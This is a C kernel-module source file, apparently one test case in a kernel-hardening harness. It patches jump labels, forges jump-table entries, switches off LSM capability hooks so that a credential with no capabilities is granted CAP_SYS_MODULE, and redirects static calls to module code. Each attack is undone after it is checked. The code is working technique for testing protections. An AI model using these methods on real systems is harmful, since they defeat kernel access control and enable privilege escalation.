// SPDX-License-Identifier: GPL-2.0-only
/*
 * Uses the switches that the kernel's code has: static keys and static calls, so that nothing is written which
 * these places cannot hold. Keys of the security modules, or one that is constant, are switched: by the kernel's own
 * functions, by an entry of the attacker's own, with the key written first; and a static call gets another function.
 */
#include <linux/capability.h>
#include <linux/cpu.h>
#include <linux/cred.h>
#include <linux/jump_label.h>
#include <linux/lsm_hooks.h>
#include <linux/mutex.h>
#include <linux/static_call.h>
#include <linux/tracepoint-defs.h>
#include <linux/user_namespace.h>
#include <asm/text-patching.h>

#include "attack.h"

#define MAGIC 0x5eed

static struct jump_entry *table(bool end)
{
	return (void *)attack_symbol(end ? "__stop___jump_table" : "__start___jump_table");
}

static struct jump_entry *entry_of(const void *key)
{
	struct jump_entry *entry = table(false), *end = table(true);

	for (; key && entry && entry < end; entry++)
		if ((void *)jump_entry_key(entry) == key && !jump_entry_is_init(entry))
			return entry;
	return NULL;
}

static bool jumps(const struct jump_entry *entry)
{
	u8 first = *(const u8 *)jump_entry_code(entry);

	return first == 0xe9 || first == 0xeb;
}

/* By way of INT3: text_poke_bp(), as it was called once. */
static void live_patch(u8 *where, const u8 *bytes, size_t size)
{
	unsigned long function = attack_symbol("smp_text_poke_single") ?:
				 attack_symbol("text_poke_bp");
	struct mutex *text_mutex = (void *)attack_symbol("text_mutex");

	mutex_lock(text_mutex);
	attack_call(function, (unsigned long)where, (unsigned long)bytes, size, 0);
	mutex_unlock(text_mutex);
}

/* What the kernel would write there, but not because of its key. */
static void turn(const struct jump_entry *entry)
{
	static const u8 nop2[] = { 0x66, 0x90 }, nop5[] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
	u8 *site = (u8 *)jump_entry_code(entry), bytes[5];
	size_t size = *site == 0xeb || *site == 0x66 ? 2 : 5;
	s32 distance = jump_entry_target(entry) - (unsigned long)site - size;

	if (jumps(entry)) {
		memcpy(bytes, size == 2 ? nop2 : nop5, size);
	} else {
		bytes[0] = size == 2 ? 0xeb : 0xe9;
		memcpy(bytes + 1, &distance, size - 1);
	}
	live_patch(site, bytes, size);
}

/* Undoes what was done to the site; a breakpoint would be a patch that is half done. */
static enum verdict judge(const struct jump_entry *entry, bool before,
			  void (*undo)(const struct jump_entry *))
{
	if (*(const u8 *)jump_entry_code(entry) == 0xcc)
		return ATTACK_HALF;
	if (jumps(entry) == before)
		return ATTACK_DISCARDED;
	undo(entry);
	return jumps(entry) == before ? ATTACK_DONE : ATTACK_HALF;
}

/* The jump label of a tracepoint that nothing here comes by: its key may change, and did not. */
static enum verdict without_key(void)
{
	struct tracepoint *tracepoint = (void *)attack_symbol("__tracepoint_tcp_retransmit_skb");
	struct jump_entry *entry = tracepoint ? entry_of(&tracepoint->key) : NULL;
	bool before;

	if (!entry)
		return ATTACK_FAILED;
	before = jumps(entry);
	/* While it is turned back its key is as it never was. */
	turn(entry);
	return judge(entry, before, turn);
}

/* Does the kernel check what programs copy? It is decided when it starts, and the key is constant. */
static struct static_key *constant_key(void)
{
	return (void *)(attack_symbol("bypass_usercopy_checks") ?:
			attack_symbol("validate_usercopy_range"));
}

static void set_enabled(struct static_key *key, int enabled)
{
	struct static_key *alias = attack_alias(key);

	if (alias)
		atomic_set(&alias->enabled, enabled);
	attack_unalias(alias);
}

/* Of the same key or a forged one: the kernel's own function for one site. */
static void transform(struct jump_entry *entry)
{
	attack_call(attack_symbol("arch_jump_label_transform"), (unsigned long)entry,
		    static_key_enabled(jump_entry_key(entry)) ^ jump_entry_is_branch(entry), 0, 0);
}

static void toggle_constant(const struct jump_entry *entry)
{
	struct static_key *key = jump_entry_key(entry);

	set_enabled(key, !static_key_enabled(key));
	transform((struct jump_entry *)entry);
}

/* First the key, by another mapping, so that it agrees with what the kernel is then asked for. */
static enum verdict constant(void)
{
	struct jump_entry *entry = entry_of(constant_key());
	struct static_key *key = constant_key();
	enum verdict verdict;
	bool before;
	int enabled;

	if (!entry)
		return ATTACK_FAILED;
	before = jumps(entry);
	enabled = atomic_read(&key->enabled);
	toggle_constant(entry);
	verdict = judge(entry, before, toggle_constant);
	set_enabled(key, enabled);
	return verdict;
}

static struct {
	struct jump_entry entry;
	struct static_key key;
} forged __aligned(8);

/* An entry in the attacker's own module, with a key of his own, says that the kernel's site is its. */
static void toggle_forged(const struct jump_entry *entry)
{
	unsigned long code = jump_entry_code(entry), target = jump_entry_target(entry);

	forged.entry.code = code - (unsigned long)&forged.entry.code;
	forged.entry.target = target - (unsigned long)&forged.entry.target;
	forged.entry.key = (unsigned long)&forged.key - (unsigned long)&forged.entry.key;
	atomic_set(&forged.key.enabled, !jumps(entry));
	transform(&forged.entry);
}

static enum verdict forge(void)
{
	struct jump_entry *entry = entry_of(constant_key());
	bool before;

	if (!entry)
		return ATTACK_FAILED;
	before = jumps(entry);
	toggle_forged(entry);
	return judge(entry, before, toggle_forged);
}

#ifdef SB_HAVE_HOOK_HEADS
static enum verdict switch_security(void)
{
	return ATTACK_SKIPPED;
}

static enum verdict redirect_security(void)
{
	return ATTACK_SKIPPED;
}
#else
/* May a program without capabilities load modules? */
static bool anybody_may(void)
{
	struct cred *cred = prepare_creds();
	int denied;

	if (!cred)
		return false;
	cap_clear(cred->cap_effective);
	denied = attack_call(attack_symbol("security_capable"), (unsigned long)cred,
			     (unsigned long)&init_user_ns, CAP_SYS_MODULE, 0);
	abort_creds(cred);
	return !denied;
}

static struct lsm_static_calls_table *security(void)
{
	return (void *)attack_symbol("static_calls_table");
}

/* Those that are asked whether somebody has a capability, on or off. */
static void switch_capable(unsigned long which, bool on)
{
	u32 i;

	for (i = 0; i < ARRAY_SIZE(security()->capable); i++) {
		struct static_key *key = &security()->capable[i].active->key;

		if (which >> i & 1 && on)
			static_key_enable(key);
		else if (which >> i & 1)
			static_key_disable(key);
	}
}

static unsigned long who_is_asked(void)
{
	unsigned long which = 0;
	u32 i;

	for (i = 0; i < ARRAY_SIZE(security()->capable); i++)
		which |= static_key_enabled(&security()->capable[i].active->key) << i;
	return which;
}

/* Where it was refused the key says that it was not; by these means it could not be switched on again. */
static void correct_capable(unsigned long which)
{
	u32 i;

	for (i = 0; i < ARRAY_SIZE(security()->capable); i++)
		if (which >> i & 1)
			atomic_set(&security()->capable[i].active->key.enabled, 1);
}

static enum verdict switch_security(void)
{
	unsigned long which;

	if (!security() || anybody_may())
		return ATTACK_FAILED;
	which = who_is_asked();
	switch_capable(which, false);
	if (anybody_may()) {
		switch_capable(which, true);
		return anybody_may() ? ATTACK_HALF : ATTACK_DONE;
	}
	correct_capable(which);
	return ATTACK_DISCARDED;
}

static void redirect(struct lsm_static_call *call, void *function)
{
	attack_call(attack_symbol("__static_call_update"), (unsigned long)call->key,
		    (unsigned long)call->trampoline, (unsigned long)function, 0);
}

/* The capability module's part is done by a function of the kernel's that says yes to all. */
static enum verdict redirect_security(void)
{
	void *yes = (void *)attack_symbol("__static_call_return0"), *old[MAX_LSM_COUNT];
	struct lsm_static_call *call = security() ? security()->capable : NULL;
	bool succeeds;
	u32 i;

	if (!yes || !call || anybody_may())
		return ATTACK_FAILED;
	for (i = 0; i < MAX_LSM_COUNT; i++) {
		old[i] = call[i].key->func;
		if (old[i])
			redirect(&call[i], yes);
	}
	succeeds = anybody_may();
	for (i = 0; i < MAX_LSM_COUNT; i++)
		if (old[i])
			redirect(&call[i], old[i]);
	return anybody_may() ? ATTACK_HALF : succeeds ? ATTACK_DONE : ATTACK_DISCARDED;
}
#endif

static noinline u64 own_function(int cpu)
{
	return MAGIC;
}

/* A static call of the kernel gets a function of this module: what a hypervisor has taken from a CPU. */
static enum verdict foreign(void)
{
	struct static_call_key *key = (void *)attack_symbol("__SCK__pv_steal_clock");
	unsigned long trampoline = attack_symbol("__SCT__pv_steal_clock");
	unsigned long update = attack_symbol("__static_call_update");
	bool succeeds;
	void *old;

	if (!key || !trampoline || !update)
		return ATTACK_FAILED;
	old = key->func;
	attack_call(update, (unsigned long)key, trampoline, (unsigned long)own_function, 0);
	succeeds = attack_call(trampoline, 0, 0, 0, 0) == MAGIC;
	attack_call(update, (unsigned long)key, trampoline, (unsigned long)old, 0);
	if (attack_call(trampoline, 0, 0, 0, 0) == MAGIC)
		return ATTACK_HALF;
	return succeeds ? ATTACK_DONE : ATTACK_DISCARDED;
}

static const struct attack_choice choices[] = {
	{ "without_key", without_key },
	{ "constant", constant },
	{ "forge", forge },
	{ "switch_security", switch_security },
	{ "redirect_security", redirect_security },
	{ "foreign", foreign },
};

ATTACK_CHOICE(choices, "switches of the kernel's code, used by somebody else");
